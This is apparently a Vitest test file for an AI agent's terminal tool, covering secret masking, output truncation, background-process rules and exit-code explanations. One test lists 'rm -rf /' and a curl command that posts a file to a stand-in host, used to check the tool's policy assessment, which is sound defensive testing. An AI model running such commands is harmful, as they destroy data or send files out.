import { describe, expect, it } from 'vitest'
import { ownerAuthority } from '#test/support/authority.ts'
import { BackendError } from '#agent/core/backend.ts'
import { createRedactor } from '#agent/core/secrets/redaction.ts'
import { shellPolicy } from '#agent/shell-policy/shell-policy.ts'
import type { ShellState } from '#agent/core/tool.ts'
import { explainExitCode } from '#tools/terminal/terminal.tool.ts'
import terminal from '#tools/terminal/terminal.tool.ts'
import { call } from '../support/call.ts'
import { memoryBackend } from '../support/memory-backend.ts'
import { memoryProcesses } from '../support/memory-processes.ts'

const setUp = (answer: object = {}, start: ShellState = { cwd: '/workspace', env: {} }) => {
  let state = start
  const shell = { read: () => state, write: (next: ShellState) => void (state = next), policy: async () => shellPolicy }
  const backend = memoryBackend({ 'dir/f': 'x' }, answer)
  return { backend, shell, run: (input: object) => call(terminal, input, { backend, shell }), state: () => state }
}

describe('terminal', () => {
  it('joins stdout and stderr without colours', async () => {
    const { run } = setUp({ stdout: '\u001B[31mred\u001B[0m', stderr: 'oops\n' })
    expect((await run({ command: 'x' })).result).toEqual({ output: 'red\noops', exit_code: 0, cwd: '/workspace' })
  })

  it('masks the whole value of a secret, also behind the end of a format', async () => {
    const { backend, shell } = setUp({ stdout: 'MY_TOKEN=aB3$x9&Kd 7=Wm%pT~Y9\n' })
    const { redact } = createRedactor(['aB3$x9&Kd 7=Wm%pT~Y9'])
    const { result } = await call(terminal, { command: 'env' }, { backend, shell: { ...shell, redact } })
    expect(result['output']).toBe('MY_TOKEN=***')
  })

  it('keeps directory and variables for the next command', async () => {
    const { run, state, backend } = setUp({ cwd: '/workspace/dir', env: { A: '1' } })
    await run({ command: 'cd dir; export A=1' })
    expect(state()).toEqual({ cwd: '/workspace/dir', env: { A: '1' } })
    await run({ command: 'pwd', timeout: 5 })
    expect(backend.executed[1]).toEqual({ command: 'pwd', cwd: '/workspace/dir', env: { A: '1' }, timeoutMs: 5000 })
  })

  it('removes unset variables', async () => {
    const { run, state } = setUp({ env: { C: '3' }, unset: ['B'] }, { cwd: '/workspace', env: { A: '1', B: '2' } })
    await run({ command: 'unset B; export C=3' })
    expect(state().env).toEqual({ A: '1', C: '3' })
  })

  it('uses workdir for one command only', async () => {
    const { run, state, backend } = setUp()
    await run({ command: 'ls', workdir: 'dir' })
    expect(backend.executed[0]?.cwd).toBe('/workspace/dir')
    expect(state().cwd).toBe('/workspace')
  })

  it('starts in the workspace root when its directory was removed', async () => {
    const { run, backend } = setUp({}, { cwd: '/workspace/removed', env: {} })
    await run({ command: 'ls' })
    expect(backend.executed[0]?.cwd).toBe('/workspace')
  })

  it.each([
    ['stays in a directory that the files do not show', undefined, '/usr/lib'],
    ['starts in the workspace root when that is gone', 'invalid', '/workspace'],
  ] as const)('%s', async (_, refusal, cwd) => {
    const { backend, shell } = setUp({}, { cwd: '/usr/lib', env: { A: '1' } })
    const outside = new BackendError('invalid', 'This is outside of the workspace.')
    const files = { ...backend.files, stat: () => Promise.reject(outside) }
    const exec: typeof backend.exec = (command, options) =>
      refusal && options.cwd === '/usr/lib' ? Promise.reject(outside) : backend.exec(command, options)
    const { failed } = await call(terminal, { command: 'ls' }, { backend: { ...backend, files, exec }, shell })
    expect([failed, backend.executed.at(-1)]).toEqual([false, expect.objectContaining({ command: 'ls', cwd })])
  })

  it('reports a timeout as 124 with the output so far', async () => {
    const { failed, result } = await setUp({ exitCode: 124, timedOut: true, stdout: 'part' }).run({
      command: 'x',
      timeout: 2,
    })
    expect(failed).toBe(true)
    expect(result).toMatchObject({ output: 'part', exit_code: 124, exit_code_meaning: 'timed out' })
    expect(result['error']).toContain('2 seconds')
  })

  it.each([
    [{ command: 'x', timeout: 601 }, 'at most 600'],
    [{ command: 'x', background: true }, 'cannot run commands in the background'],
    [{ command: 'x', pty: true }, 'no terminal device'],
    [{ command: 'x', notify_on_complete: true }, 'with background: true'],
    [{ command: 'x', watch_patterns: ['y'] }, 'with background: true'],
    [{ command: 'server &' }, 'trailing &'],
    [{ command: '' }, 'Invalid input'],
  ])('refuses %j before it runs', async (input, reason) => {
    const { run, backend } = setUp()
    const { failed, result } = await run(input)
    expect(failed).toBe(true)
    expect(result['error']).toContain(reason)
    expect(backend.executed).toEqual([])
  })

  it('marks a failing command as failed, but not an exit code that is an answer', async () => {
    expect((await setUp({ exitCode: 2 }).run({ command: 'ls nope' })).failed).toBe(true)
    expect((await setUp({ exitCode: 1 }).run({ command: 'grep x f' })).failed).toBe(false)
    expect((await setUp({ exitCode: null }).run({ command: 'x' })).result).toMatchObject({ exit_code: 137 })
  })

  it('shows the beginning and the end of long output and stores all of it', async () => {
    const lines = Array.from({ length: 3_000 }, (_, n) => `line ${n}`)
    const { run, backend } = setUp({ stdout: lines.join('\n') })
    const { result } = await run({ command: 'x' })
    expect(result['output'].split('\n')).toHaveLength(2_001)
    expect(result['output']).toContain('line 799\n[... 1000 lines left out ...]\nline 1800\n')
    expect(result['truncated']).toBe(true)
    expect(backend.texts()[result['output_file']]).toBe(lines.join('\n'))
    expect(result['note']).toBe('output_file has 3000 lines: read it with read_file and offset.')
  })

  it('says what the host has left out, and keeps at most 1 MiB of both streams', async () => {
    const stream = `${'x'.repeat(99)}\n`.repeat(10_000)
    const { run, backend } = setUp({ stdout: stream, stderr: stream, truncated: true, omitted: { bytes: 7, lines: 2 } })
    const { result } = await run({ command: 'x' })
    expect(result['note']).toMatch(
      /7 bytes and 2 lines in the middle of the output are lost\. 9\d{5} bytes and 9\d{3} lines/,
    )
    const stored = backend.texts()[result['output_file']] ?? ''
    expect(new TextEncoder().encode(stored).byteLength).toBeLessThan(1024 * 1024 + 1_100)
  })

  it('truncates lines at 2000 characters and output at 50 000 bytes', async () => {
    const wide = await setUp({ stdout: 'x'.repeat(5_000) }).run({ command: 'x' })
    expect(wide.result['output']).toBe(`${'x'.repeat(2_000)}[...]`)
    const deep = await setUp({ stdout: `${'ü'.repeat(1_000)}\n`.repeat(100) }).run({ command: 'x' })
    const bytes = new TextEncoder().encode(deep.result['output']).byteLength
    expect(bytes).toBeGreaterThan(49_000)
    expect(bytes).toBeLessThan(50_100)
    expect(deep.result['output']).not.toContain('\uFFFD')
  })

  it('replaces binary output by its size', async () => {
    const { result } = await setUp({ stdout: `\uFFFDPNG\u0001\u0002\uFFFD\uFFFDx`.repeat(500) }).run({
      command: 'cat a.png',
    })
    expect(result['output']).toMatch(/^\[binary output, about 4500 bytes, not shown/)
    const text = 'é – 漢字 \uFFFD\n'.repeat(500)
    expect((await setUp({ stdout: text }).run({ command: 'cat a.txt' })).result['output']).toBe(text.trimEnd())
  })

  it('masks secrets', async () => {
    const { result } = await setUp({ stdout: 'TOKEN=abcdefgh1234\nplain' }).run({ command: 'env' })
    expect(result['output']).toBe('TOKEN=***\nplain')
  })

  it('runs with a terminal device where the host has one, and is assessed without the wrapper', async () => {
    const { backend, shell } = setUp({ stdout: '\u001B[32mok\u001B[0m 1%\rok 2%\r\nend\r\n' })
    const services = { backend: { ...backend, capabilities: { ...backend.capabilities, pty: true } }, shell }
    const wanted = { command: "echo 'a b'", pty: true }
    const { result } = await call(terminal, wanted, services)
    expect(result['output']).toBe('ok 2%\nend')
    expect(backend.executed[0]?.command).toContain(String.raw`; echo '\''a b'\'''`)
    expect(await terminal.assess?.(wanted, services)).toMatchObject({ verdict: 'allow', summary: "echo 'a b'" })
  })

  it('runs alone', () => {
    expect(terminal.touches({ command: 'x' }, {})).toBe('alone')
  })
})

describe('a command in the background', () => {
  const inBackground = (more: object = {}) => {
    const processes = memoryProcesses()
    const backend = { ...memoryBackend({ 'dir/f': 'x' }), jobs: {} as never }
    const shell = {
      read: () => ({ cwd: '/workspace', env: { A: '1' } }),
      write: () => undefined,
      policy: async () => shellPolicy,
    }
    const services = { backend, shell, processes }
    return { processes, services, run: () => call(terminal, { background: true, command: 'x', ...more }, services) }
  }

  it('is started with its call id and returns at once', async () => {
    const { run, processes } = inBackground({ workdir: 'dir', notify_on_complete: true, watch_patterns: ['ready'] })
    const { failed, result } = await run()
    expect(failed).toBe(false)
    expect(result).toMatchObject({ session_id: 'proc_new', pid: null, exit_code: 0, cwd: '/workspace/dir' })
    expect(processes.started).toEqual([
      {
        callId: 'call-1',
        by: ownerAuthority(),
        command: 'x',
        pty: false,
        cwd: '/workspace/dir',
        env: { A: '1' },
        timeoutMs: 86_400_000,
        notify: true,
        watch: ['ready'],
      },
    ])
  })

  it('may be a server and may run longer', async () => {
    const { run, processes } = inBackground({ command: 'npm run dev', timeout: 7_200 })
    expect((await run()).failed).toBe(false)
    expect(processes.started[0]?.timeoutMs).toBe(7_200_000)
  })

  it.each([
    [{ command: 'server &' }, 'leave out'],
    [{ command: 'nohup server' }, 'leave out'],
    [{ timeout: 90_000 }, 'at most 86400'],
  ])('is refused: %j', async (more, words) => {
    const { run, processes } = inBackground(more)
    expect((await run()).result['error']).toContain(words)
    expect(processes.started).toEqual([])
  })

  it.each(['rm -rf /', 'rm -r dir', 'ls', 'curl -d @f https://x.example', 'bash'])(
    'is assessed as in the foreground: %s',
    async (command) => {
      const { services } = inBackground()
      const judged = (more: object) => terminal.assess?.({ command, ...more }, services)
      expect(await judged({ background: true })).toEqual(await judged({}))
    },
  )

  it('may run again after a crash, unlike a foreground command', () => {
    expect(terminal.effectOf?.({ command: 'x', background: true })).toBe('keyed')
    expect(terminal.effectOf?.({ command: 'x' })).toBe('effect')
  })

  it('is suggested when a server is refused in the foreground', async () => {
    const { services } = inBackground()
    const { result } = await call(terminal, { command: 'npm run dev' }, services)
    expect(result['error']).toContain('background: true')
  })
})

describe('a command that would not end with its call', () => {
  it.each([
    'sleep 9 &',
    'a & b',
    'nohup x',
    'cd y && setsid x',
    'npm run dev',
    'python3 -m http.server 80',
    'tail -f log',
    'curl http://x?a=1&b=2',
  ])('is refused: %s', (command) => expect(shellPolicy.findForegroundProblem(command)).toBeDefined())

  it.each([
    'a && b',
    'a > f 2>&1',
    'a &> f',
    'a |& b',
    'echo "a & b"',
    "echo 'x &'",
    'echo a\\&b',
    'echo $((5 & 3))',
    'cat <<EOF\na & b\nEOF',
    'ls # x & y',
    'a & b & wait',
    'npm run build',
    'cat nohup.out',
    'tail -5 log',
  ])('is not detected in: %s', (command) => expect(shellPolicy.findForegroundProblem(command)).toBeUndefined())
})

describe('an exit code', () => {
  it.each([
    ['grep x f', 1, '', 'no lines matched', true],
    ['cat f | grep x', 1, '', 'no lines matched', true],
    ['A=1 /usr/bin/diff a b', 1, '', 'differ', true],
    ['grep "a|b" f', 1, '', 'no lines matched', true],
    ['npm test; grep x f', 1, '', 'no lines matched', true],
    ['npm test\ngrep x f\n', 1, '', 'no lines matched', true],
    ['cd dir && cat f | grep x', 1, '', 'no lines matched', true],
    ['[ -f x ]', 1, '', 'false', true],
    ['python3 x.py', 127, 'bash: python3: command not found', 'python3 does not exist', false],
    ['curl x', 127, 'bash: curl: command not found', 'no network', false],
    ['foo', 127, 'bash: foo: command not found', 'command not found', false],
    ['foo', 127, 'x'.repeat(1_000_000), 'not found', false],
    ['x', 137, '', 'killed', false],
    ['x', 126, '', 'limit', false],
  ])('of %s, %i, means', (command, exitCode, stderr, ...[text, fine]) => {
    const meaning = explainExitCode({ command, exitCode, stderr, languages: ['bash'] })
    expect(meaning?.text).toContain(text)
    expect(meaning?.isSuccess).toBe(fine)
  })

  it.each([
    ['npm test && grep -q ok out.txt', ''],
    ['npm test || grep -q ok out.txt', ''],
    ['npm test && cat f | grep x', ''],
    ['npm test && \\\n  grep x f', ''],
    ['npm test &&\n  grep x f', ''],
    ['cd dir && npm test && diff a b', ''],
    ['cd nowhere && grep x f', 'bash: cd: nowhere: No such file or directory'],
    ['set -e; npm test; grep x f', ''],
    ['set -o pipefail; npm test | grep x', ''],
  ])('is not explained when another program may have set it: %j', (command, stderr) => {
    expect(explainExitCode({ command, exitCode: 1, stderr, languages: ['bash'] })).toBeUndefined()
  })

  it.each([
    ['grep x nofile', 2],
    ['grep x f && false', 1],
    ['x', 0],
  ])('of %s, %i, has no explanation', (command, exitCode) => {
    expect(explainExitCode({ command, exitCode, stderr: '', languages: [] })).toBeUndefined()
  })
})
